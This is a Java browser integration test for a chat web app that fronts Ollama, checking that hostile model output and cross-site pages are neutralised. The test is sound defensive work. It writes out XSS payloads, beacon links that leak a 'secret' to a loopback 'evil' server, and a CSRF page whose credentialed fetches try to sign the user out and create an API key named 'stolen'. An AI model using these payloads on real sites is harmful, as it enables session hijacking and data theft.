package org.corral.page;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.corral.it.Gate;
import org.corral.it.Site;
import org.corral.standin.Behaviour;
import org.corral.standin.StandInOllama;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.Keys;
import org.openqa.selenium.WebElement;

/** A model says whatever somebody made it say. On the page it can do nothing. */
@InChromium
class HostileAnswerIT {
    private final Gate gate = Gate.open();

    @Test
    void scriptsBeaconsMarkupAndLinksDoNothing() throws Exception {
        List<String> reached = new CopyOnWriteArrayList<>();
        HttpServer evil = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        evil.createContext("/", exchange -> {
            reached.add(exchange.getRequestURI().toString());
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        evil.start();
        String there = "http://127.0.0.1:" + evil.getAddress().getPort();
        try (Browser browser = Browser.open(gate).enter(gate.user())) {
            gate.ollama().next("POST /api/chat", Said.text(answer(there)));
            browser.type("Message", "Hello").keys(Keys.ENTER).sees("The end.", "tokens/s");
            assertThat(browser.script("return window.hacked")).isNull();
            assertThat(browser.all(".prose .block")).isNotEmpty();
            for (String css : List.of(
                    "script",
                    "img",
                    "iframe",
                    "form",
                    "style",
                    "svg",
                    "object",
                    "base",
                    "meta",
                    "[style]",
                    "[onclick]",
                    "[id]",
                    "[class]")) {
                assertThat(browser.all(".prose .block " + css)).as(css).isEmpty();
            }
            assertThat(browser.all(".prose a[href]"))
                    .extracting(link -> link.getAttribute("href"))
                    .allMatch(href -> href.startsWith(there));
            // What is written as HTML is read as what was written.
            browser.sees("<img src=x onerror=\"window.hacked=1\">");

            browser.press("a link")
                    .sees("Open this link?", there + "/link?q=secret")
                    .press("Cancel");
            browser.seesNoLonger("Open this link?");
            browser.pressMiddle("a link")
                    .sees("Open this link?", there + "/link?q=secret")
                    .press("Cancel");
            browser.seesNoLonger("Open this link?");
            browser.script("arguments[0].focus()", browser.find("a link"));
            browser.keysWith(Keys.CONTROL, Keys.ENTER).sees("Open this link?").press("Cancel");
            browser.seesNoLonger("Open this link?");
            assertThat(browser.all(".prose a[href]"))
                    .extracting(link -> link.getAttribute("draggable"))
                    .containsOnly("false");
            List<WebElement> dead = browser.all(".prose a:not([href])");
            assertThat(dead).isNotEmpty().allSatisfy(each -> browser.script("arguments[0].click()", each));
            assertThat(browser.driver().getWindowHandles()).hasSize(1);
            assertThat(browser.driver().getCurrentUrl()).startsWith(browser.home() + "#/chat/");
            browser.isQuiet();
        } finally {
            evil.stop(0);
        }
        assertThat(reached).isEmpty();
        assertThat(Site.of(gate).me(gate.user().token()).status()).isEqualTo(200);
    }

    @Test
    void namesAndErrorsOfOllamaAreTextToo() {
        String name = "<img src=x onerror=window.hacked=1>";
        String error = "<script>window.hacked=1</script><b>no</b>";
        gate.ollama().haveModels(name, "llama3.2");
        gate.ollama().next("POST /api/chat", Behaviour.error(400, error));
        try (Browser browser = Browser.open(gate).enter(gate.admin())) {
            browser.expectRefusals().find("Message");
            browser.choose("Model", "llama3.2")
                    .type("Message", "Hello")
                    .keys(Keys.ENTER)
                    .sees(error);
            browser.go("#/admin/models").sees(name);
            browser.go("#/admin/servers").sees("Requests now");
            assertThat(browser.script("return window.hacked")).isNull();
            browser.isQuiet();
        } finally {
            gate.ollama().haveModels(StandInOllama.MODELS.toArray(String[]::new));
        }
    }

    /** A page elsewhere can neither show this one in itself nor act with its cookie, though both are on one host. */
    @Test
    void pageElsewhereCanNeitherFrameItNorActForWhoIsSignedIn() throws Exception {
        HttpServer evil = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        byte[] page = elsewhere(gate.url().resolve("/").toString()).getBytes(StandardCharsets.UTF_8);
        evil.createContext("/", exchange -> {
            exchange.getResponseHeaders().set("Content-Type", "text/html");
            exchange.sendResponseHeaders(200, page.length);
            exchange.getResponseBody().write(page);
            exchange.close();
        });
        evil.start();
        try (Browser browser = Browser.open(gate).enter(gate.user())) {
            browser.find("Message");
            browser.driver().get("http://127.0.0.1:" + evil.getAddress().getPort() + "/");
            browser.await(
                    "its requests to be answered", () -> Long.valueOf(4).equals(browser.script("return answered")));
            browser.driver().switchTo().frame("framed");
            assertThat(browser.all("#app")).isEmpty();
        } finally {
            evil.stop(0);
        }
        assertThat(gate.ollama().requests("/api/chat")).isEmpty();
        assertThat(Site.of(gate).me(gate.user().token()).status()).isEqualTo(200);
    }

    private static String elsewhere(String home) {
        return """
                <iframe name="framed" src="HOME"></iframe><iframe name="posted"></iframe>
                <form id="out" target="posted" method="post" action="HOMEapi/v1/auths/signout"></form>
                <script>
                window.answered = 0;
                const done = () => { answered++; };
                document.getElementById('out').submit();
                document.querySelector('[name=posted]').addEventListener('load', done, { once: true });
                for (const [path, body] of [['ollama/api/chat', '{"model":"llama3.2","messages":[]}'],
                    ['api/v1/auths/sessions/signout', '{}'], ['api/v1/auths/api_keys', '{"name":"stolen"}']]) {
                  fetch('HOME' + path, { method: 'POST', mode: 'no-cors', credentials: 'include', body }).then(done, done);
                }
                </script>
                """.replace("HOME", home);
    }

    /** By the policy alone: what gets past everything else is stopped here. */
    @Test
    void policyForbidsWhatMarkupWouldDo() {
        try (Browser browser = Browser.open(gate).enter(gate.user())) {
            browser.find("Message");
            assertThat(browser.script("""
                    try {
                      document.createElement('div').innerHTML = '<p>made of text</p>';
                      return 'taken';
                    } catch (failure) {
                      return failure.name;
                    }
                    """)).isEqualTo("TypeError");
            browser.script("""
                    const image = document.createElement('img');
                    image.src = 'http://127.0.0.1:9/beacon';
                    const script = document.createElement('script');
                    script.append('window.hacked = 1');
                    document.body.append(image, script);
                    fetch('http://127.0.0.1:9/').catch(() => {});
                    """);
            browser.await("the policy to forbid them", () -> Long.valueOf(4)
                    .equals(browser.script("return violations.length")));
            assertThat(browser.consoleErrors().toString())
                    .contains("img-src", "connect-src", "TrustedHTML", "TrustedScript");
            assertThat(browser.script("return window.hacked")).isNull();
        }
    }

    private static String answer(String there) {
        return """
                <script>window.hacked = 1; fetch('HERE/script')</script>

                <img src=x onerror="window.hacked=1">

                <svg onload="window.hacked=1"><style>@import 'HERE/style';</style></svg>

                ![beacon](HERE/image.png?q=secret)

                [a script](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>)

                [sign out](api/v1/auths/signout) [too](/api/v1/auths/signout) [and](#/account) <a href="api/v1/auths/signout">this</a>

                <iframe src="HERE/frame"></iframe><form action="HERE/form"><input name=q></form>

                <meta http-equiv="refresh" content="0;url=HERE/meta"><base href="HERE/"><link rel="prefetch" href="HERE/prefetch">

                - <b onclick="window.hacked=1" id="app" style="position:fixed">bold</b>
                - [a link](HERE/link?q=secret)

                `<script>window.hacked=1</script>` "><img src=HERE/quote>

                The end.
                """.replace("HERE", there);
    }
}
